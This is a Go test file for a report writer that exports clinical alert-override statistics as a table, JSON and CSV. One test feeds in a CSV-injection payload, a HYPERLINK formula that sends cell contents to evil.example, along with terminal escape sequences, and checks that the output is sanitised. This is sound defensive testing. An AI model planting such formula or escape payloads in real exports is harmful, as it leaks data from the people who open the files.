package store

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"
)

var sampleReport = Report{
	Since: time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC),
	Findings: []FindingStats{
		{Code: "tb-screening-missing", Shown: 40, Accepted: 10, Overridden: 30, OverrideRate: 0.75,
			TopReasons: []ReasonCount{
				{System: "http://example.org/r", Code: "done-elsewhere", Display: "Done elsewhere", Count: 20},
				{System: "http://example.org/r", Code: "x", Count: 5},
			}, AcceptedSuggestions: 12},
		{Code: "smoker", Shown: 3},
	},
	Unattributed: 2,
}

func TestWriteReportTable(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteReport(&buf, sampleReport, "table"); err != nil {
		t.Fatal(err)
	}
	got := buf.String()
	lines := strings.Split(got, "\n")
	for _, want := range []string{
		"Feedback since 2026-11-22T09:00:00Z",
		"Done elsewhere (done-elsewhere) ×20; x ×5",
		"75.0%",
		"Unattributed feedback (unknown cards): 2",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("table lacks %q:\n%s", want, got)
		}
	}
	// Columns are aligned: OVERRIDDEN starts at the same offset on every row.
	header := lines[2]
	col := strings.Index(header, "OVERRIDE RATE")
	for _, l := range lines[3:5] {
		if len(l) <= col || l[col-1] != ' ' || l[col] == ' ' {
			t.Errorf("row not aligned with header at %d:\n%s\n%s", col, header, l)
		}
	}
	if !strings.Contains(lines[4], "smoker") || !strings.Contains(lines[4], " - ") {
		t.Errorf("a finding without feedback shows '-' for rate and reasons: %q", lines[4])
	}
}

func TestWriteReportJSON(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteReport(&buf, sampleReport, "json"); err != nil {
		t.Fatal(err)
	}
	var back Report
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	want := sampleReport
	want.Findings = append([]FindingStats(nil), sampleReport.Findings...)
	want.Findings[1].TopReasons = []ReasonCount{}
	if !reflect.DeepEqual(back, want) {
		t.Errorf("round trip\n got  %+v\n want %+v", back, want)
	}
	for _, key := range []string{`"overrideRate": 0.75`, `"topReasons": []`, `"acceptedSuggestions": 12`, `"unattributed": 2`} {
		if !strings.Contains(buf.String(), key) {
			t.Errorf("JSON lacks %s:\n%s", key, buf.String())
		}
	}
	buf.Reset()
	if err := WriteReport(&buf, Report{}, "json"); err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(strings.Fields(buf.String()), ""); got != `{"findings":[],"unattributed":0}` {
		t.Errorf("empty report JSON = %s", got)
	}
}

func TestWriteReportCSV(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteReport(&buf, sampleReport, "csv"); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"code", "shown", "feedback", "accepted", "overridden", "override_rate", "accepted_suggestions", "top_override_reasons"},
		{"tb-screening-missing", "40", "40", "10", "30", "0.7500", "12", "Done elsewhere (done-elsewhere) ×20; x ×5"},
		{"smoker", "3", "0", "0", "0", "0.0000", "0", ""},
		{"(unattributed)", "", "2", "", "", "", "", ""},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("csv\n got  %q\n want %q", rows, want)
	}
}

// Override reasons are an EHR's free text: in the CSV a committee member
// opens in a spreadsheet none may start a formula (CSV injection), and in
// the table read in a terminal none may carry an escape sequence.
func TestWriteReportHostileReasons(t *testing.T) {
	r := Report{Findings: []FindingStats{{Code: "tb-screening-missing", Shown: 2, Overridden: 2, OverrideRate: 1,
		TopReasons: []ReasonCount{{Code: "x", Display: `=HYPERLINK("https://evil.example/?"&A1,"Click")`, Count: 1},
			{Code: "@SUM(1+1)\x1b[2J\x1b]0;owned\x07", Count: 1}}}}}
	var buf bytes.Buffer
	if err := WriteReport(&buf, r, "csv"); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV cell %q starts a formula", cell)
			}
		}
	}
	if got := rows[1][7]; !strings.HasPrefix(got, "'=HYPERLINK(") {
		t.Errorf("reasons cell %q: want the text kept behind an apostrophe", got)
	}
	for _, format := range []string{"csv", "table"} {
		buf.Reset()
		if err := WriteReport(&buf, r, format); err != nil {
			t.Fatal(err)
		}
		if strings.ContainsAny(buf.String(), "\x1b\x07") {
			t.Errorf("%s: a control character of a reason reached the report: %q", format, buf.String())
		}
	}
}

// A spreadsheet in a Japanese or Chinese locale may read a cell starting
// with a fullwidth ＝, ＋, － or ＠ as a formula too.
func TestCSVTextFormulaStarts(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"＝1+1": "'＝1+1", "＋1": "'＋1", "－1": "'－1", "＠SUM(A1)": "'＠SUM(A1)",
		"": "", "Patient declined": "Patient declined", "a=1": "a=1", "１＝１": "１＝１", "–1": "–1",
	} {
		if got := csvText(in); got != want {
			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriteReportUnknownFormat(t *testing.T) {
	for _, f := range []string{"", "xml", "JSON"} {
		if err := WriteReport(&bytes.Buffer{}, sampleReport, f); err == nil {
			t.Errorf("format %q: want an error", f)
		}
	}
}
